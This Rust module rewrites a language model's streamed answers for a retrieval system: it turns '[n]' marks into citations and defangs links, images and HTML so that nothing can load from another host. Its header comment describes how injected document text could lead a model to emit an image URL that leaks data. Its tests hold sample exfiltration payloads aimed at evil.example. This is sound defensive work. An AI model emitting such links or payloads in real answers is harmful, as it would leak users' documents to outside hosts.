//! What a language model writes, on its way to the reader: its `[n]` become citations of sentences or go, and nothing in it
//! can load or link to another host.
//!
//! A link or an image in an answer could carry document text to whoever a document names (`![](https://evil/?q=…)` is fetched
//! by the reader's browser). So Markdown's links, images and reference definitions, HTML tags and bare addresses are broken by a
//! space. It works on pieces as they come: how the text is cut into pieces changes nothing.
//!
//! A program's block stays as it is written, for a `[1]` or a `//` means something there and nothing in it is followed: in blocks
//! fenced by backticks from the first column on, and only where a program was asked for.

use std::collections::HashSet;
use std::ops::Range;

use super::support::{Wanted, words};
use super::{Kind, Quote, sentences};
use crate::retrieve::Hit;

/// Longer brackets are no citation.
const LONGEST_MARK: usize = 24;

/// Turns the model's text into ours.
pub(super) struct Rewriter<'a> {
    /// The passages, by the model's numbers less one, each with its index in the request.
    given: Vec<(usize, &'a Hit)>,
    /// A bracket whose end has not come yet.
    held: String,
    /// What was written so far.
    text: String,
    quotes: Vec<Quote>,
    /// Words since the last citation.
    claim: String,
    claim_is_cited: bool,
    /// Whether a program was asked for.
    is_code: bool,
    /// Whether a program's block is open.
    in_block: bool,
}

impl<'a> Rewriter<'a> {
    /// `given` are indexes of `passages`, in the order of the numbers that the model was told.
    pub fn new(passages: &'a [Hit], given: &[usize], kind: Kind) -> Self {
        Self {
            given: given.iter().filter_map(|&at| Some((at, passages.get(at)?))).collect(),
            held: String::new(),
            text: String::new(),
            quotes: Vec::new(),
            claim: String::new(),
            claim_is_cited: false,
            is_code: kind == Kind::Code,
            in_block: false,
        }
    }

    /// Takes the next piece; what is sure of it goes to `sink`.
    pub fn push(&mut self, piece: &str, sink: &mut dyn FnMut(&str)) {
        let written = self.text.len();
        for c in piece.chars() {
            self.take(c);
        }
        self.hand_out(written, sink);
    }

    /// The whole text and its quotes; what was held back goes to `sink`.
    pub fn finish(mut self, sink: &mut dyn FnMut(&str)) -> (String, Vec<Quote>) {
        let written = self.text.len();
        let held = std::mem::take(&mut self.held);
        held.chars().for_each(|c| self.write(c));
        self.hand_out(written, sink);
        (self.text, self.quotes)
    }

    fn hand_out(&self, from: usize, sink: &mut dyn FnMut(&str)) {
        if self.text.len() > from {
            sink(&self.text[from..]);
        }
    }

    fn take(&mut self, c: char) {
        if self.in_block {
            self.text.push(c);
            self.in_block = c != '\n' || !closes_block(last_line(&self.text));
            return;
        }
        if self.held.is_empty() && c != '[' {
            self.write(c);
            self.in_block = self.is_code && c == '\n' && opens_block(last_line(&self.text));
            return;
        }
        let is_mark = c.is_ascii_digit() || (matches!(c, ',' | ';' | ' ' | '-' | '–') && self.held.len() > 1);
        match c {
            ']' => {
                let mark = std::mem::take(&mut self.held);
                match numbers(&mark[1..]) {
                    Some(numbers) => self.cite(&numbers),
                    None => mark.chars().chain([c]).for_each(|c| self.write(c)),
                }
            }
            '[' if self.held.is_empty() => self.held.push(c),
            _ if is_mark && self.held.len() < LONGEST_MARK => self.held.push(c),
            _ => {
                let held = std::mem::take(&mut self.held);
                held.chars().for_each(|c| self.write(c));
                self.take(c);
            }
        }
    }

    /// Writes one character, with a space before it where it would begin something that a browser follows.
    fn write(&mut self, c: char) {
        let breaks = match c {
            '(' | ':' => self.text.ends_with(']'),
            '/' => self.text.ends_with(':'),
            '.' => self.text.len() >= 3 && self.text.as_bytes()[self.text.len() - 3..].eq_ignore_ascii_case(b"www"),
            '!' | '?' | '[' if self.text.ends_with('<') => true,
            '[' => self.text.ends_with('!'),
            // A block that is fenced so would hide where another begins and ends.
            '~' => self.is_code && self.text.ends_with("~~"),
            c => self.text.ends_with('<') && c.is_alphabetic(),
        };
        // A closing tag does nothing on its own, but `</` may close what the page around the answer has opened.
        if breaks || (c == '/' && self.text.ends_with('<')) {
            self.text.push(' ');
        }
        self.text.push(c);
        if c.is_alphanumeric() && self.claim_is_cited {
            self.claim.clear();
            self.claim_is_cited = false;
        }
        self.claim.push(c);
    }

    /// Writes the citations for the model's `numbers`. One that no passage has is left out.
    fn cite(&mut self, numbers: &[usize]) {
        let mut cited: Vec<usize> = Vec::new();
        for number in numbers {
            let Some(&(passage, hit)) = number.checked_sub(1).and_then(|at| self.given.get(at)) else { continue };
            let quote = Quote { passage, bytes: supporting(&self.claim, &hit.text), pointer: None };
            let n = match self.quotes.iter().position(|known| *known == quote) {
                Some(at) => at + 1,
                None => {
                    self.quotes.push(quote);
                    self.quotes.len()
                }
            };
            if !cited.contains(&n) {
                cited.push(n);
                self.text.push_str(&format!("[{n}]"));
            }
        }
        self.claim_is_cited |= !cited.is_empty();
    }
}

/// The line that a text's last character ends.
fn last_line(text: &str) -> &str {
    let line = text.strip_suffix('\n').unwrap_or(text);
    line.rsplit('\n').next().unwrap_or(line)
}

fn opens_block(line: &str) -> bool {
    line.strip_prefix("```").is_some_and(|language| !language.contains('`'))
}

/// Stricter readers take less for an end, and then what follows is still a program to them.
fn closes_block(line: &str) -> bool {
    let line = line.trim();
    line.len() >= 3 && line.bytes().all(|byte| byte == b'`')
}

/// The numbers of a mark such as `1`, `1, 2` or `3-5`.
fn numbers(mark: &str) -> Option<Vec<usize>> {
    let mut numbers = Vec::new();
    for part in mark.split([',', ';']) {
        let mut ends = part.split(['-', '–']).map(|number| number.trim().parse::<usize>());
        match (ends.next(), ends.next(), ends.next()) {
            (Some(Ok(one)), None, None) => numbers.push(one),
            (Some(Ok(from)), Some(Ok(to)), None) if from <= to && to - from < 20 => numbers.extend(from..=to),
            _ => return None,
        }
    }
    Some(numbers)
}

/// The sentence of `passage` that holds most of what is claimed; the whole passage where none holds any of it, as when the
/// answer is in another language.
fn supporting(claim: &str, passage: &str) -> Range<usize> {
    let ranges = sentences::sentences(passage);
    let held: Vec<HashSet<String>> = ranges.iter().map(|range| words(&passage[range.clone()])).collect();
    let wanted = Wanted::of(claim, &held);
    let mut best: Option<(f32, Range<usize>)> = None;
    for (range, held) in ranges.into_iter().zip(&held) {
        let share = wanted.share(held);
        if share > best.as_ref().map_or(0.0, |(share, _)| *share) {
            best = Some((share, range));
        }
    }
    best.map_or_else(|| whole(passage), |(_, range)| range)
}

fn whole(passage: &str) -> Range<usize> {
    let start = passage.len() - passage.trim_start().len();
    start..start + passage.trim().len()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::tests::hit;
    use super::*;

    const LEASE: &str = "The notice period is ninety days. The rent is €4,500 a month. Parking is free.";

    fn passages() -> Vec<Hit> {
        vec![hit(1, "a.txt", 0, LEASE, 0.9), hit(2, "b.txt", 0, "The law of Delaware governs.", 0.8)]
    }

    fn rewritten(pieces: &[&str]) -> (String, Vec<String>) {
        rewritten_as(Kind::Ask, pieces)
    }

    fn rewritten_as(kind: Kind, pieces: &[&str]) -> (String, Vec<String>) {
        let passages = passages();
        let mut streamed = String::new();
        let mut rewriter = Rewriter::new(&passages, &[0, 1], kind);
        for piece in pieces {
            rewriter.push(piece, &mut |piece: &str| streamed.push_str(piece));
        }
        let (text, quotes) = rewriter.finish(&mut |piece: &str| streamed.push_str(piece));
        assert_eq!(text, streamed);
        let quoted = |quote: &Quote| passages[quote.passage].text[quote.bytes.clone()].to_owned();
        (text, quotes.iter().map(quoted).collect())
    }

    #[test]
    fn each_mark_quotes_the_sentence_that_supports_it() {
        let (text, quotes) = rewritten(&["Ninety days' notice [1]. Delaware law governs [2]; the rent is €4,500 [1][7]."]);
        assert_eq!(text, "Ninety days' notice [1]. Delaware law governs [2]; the rent is €4,500 [3].");
        assert_eq!(
            quotes,
            ["The notice period is ninety days.", "The law of Delaware governs.", "The rent is €4,500 a month."]
        );
    }

    #[test]
    fn marks_of_several_and_marks_of_nothing() {
        let (text, quotes) = rewritten(&["Notice is ninety days [1, 2]. It says [sic] so [9], [0] and [1]"]);
        assert!(text.starts_with("Notice is ninety days [1][2]. It says [sic] so"), "{text}");
        assert!(!text.contains("[9]") && !text.contains("[0]"), "{text}");
        assert_eq!(quotes[..2], ["The notice period is ninety days.", "The law of Delaware governs."]);
        let (text, quotes) = rewritten(&["Es sind neunzig [1"]);
        assert_eq!((text.as_str(), quotes.len()), ("Es sind neunzig [1", 0));
        assert_eq!(rewritten(&["Völlig andere Wörter [1]"]).1, [LEASE]);
    }

    #[test]
    fn nothing_links_out() {
        for evil in [
            "![x](https://evil.example/?q=1)",
            "[x](//evil.example)",
            "[1](https://evil.example)",
            "![x][r]\n\n[r]: https://evil.example",
            "<img src=x>",
            "<IMG/src=x>",
            "</div><script>",
            "<!-- -->",
            "<https://evil.example>",
            "see https://evil.example/a and HTTP://evil.example, www.evil.example WWW.evil.example",
        ] {
            let (text, _) = rewritten(&[evil]);
            for mark in ["](", "]:", "://", ":/", "<i", "<I", "<s", "</", "<!", "<h", "www.", "WWW."] {
                assert!(!text.contains(mark), "{text} holds {mark}");
            }
        }
        assert_eq!(rewritten(&["a < b, 5 <6, (x) [y] 10:30 and/or"]).0, "a < b, 5 <6, (x) [y] 10:30 and/or");
    }

    #[test]
    fn a_programs_block_stays_as_it_is_and_what_stands_around_it_does_not() {
        let block = "```rust\nlet x = a[1]; // see https://a.b/c <p>\n```\n";
        let text = format!("Ninety days [1].\n{block}![x](https://evil.example)");
        let (code, quotes) = rewritten_as(Kind::Code, &[&text]);
        assert!(code.contains(block) && !code.contains("](") && quotes.len() == 1, "{code}");
        assert!(!rewritten(&[&text]).0.contains("https://"));
        // Nothing that opens no block to a reader, or closes one, lets a link through.
        for evil in [" ```\n![x](https://e.x)", "```a`b\n![x](https://e.x)", "```\n  ````\n![x](https://e.x)"] {
            assert!(!rewritten_as(Kind::Code, &[evil]).0.contains("]("), "{evil}");
        }
        assert!(rewritten_as(Kind::Code, &["~~~\nx"]).0.starts_with("~~ ~"));
    }

    proptest! {
        #[test]
        fn how_the_text_is_cut_changes_nothing(
            text in "([a-z .]|\\[[0-9, -]{0,3}\\]|\\[|\\]|\\(|!|<|:|/|https://|www\\.|ninety|€){0,40}",
            cuts in prop::collection::vec(0_usize..200, 0..10),
        ) {
            let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
            cuts.extend([0, text.len()]);
            cuts.sort_unstable();
            let pieces: Vec<&str> = cuts.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
            let (whole, quotes) = rewritten(&[&text]);
            prop_assert_eq!(&rewritten(&pieces), &(whole.clone(), quotes));
            for mark in ["](", "]:", "://", "</", "<a", "www."] {
                prop_assert!(!whole.contains(mark), "{} holds {}", whole, mark);
            }
        }
    }
}
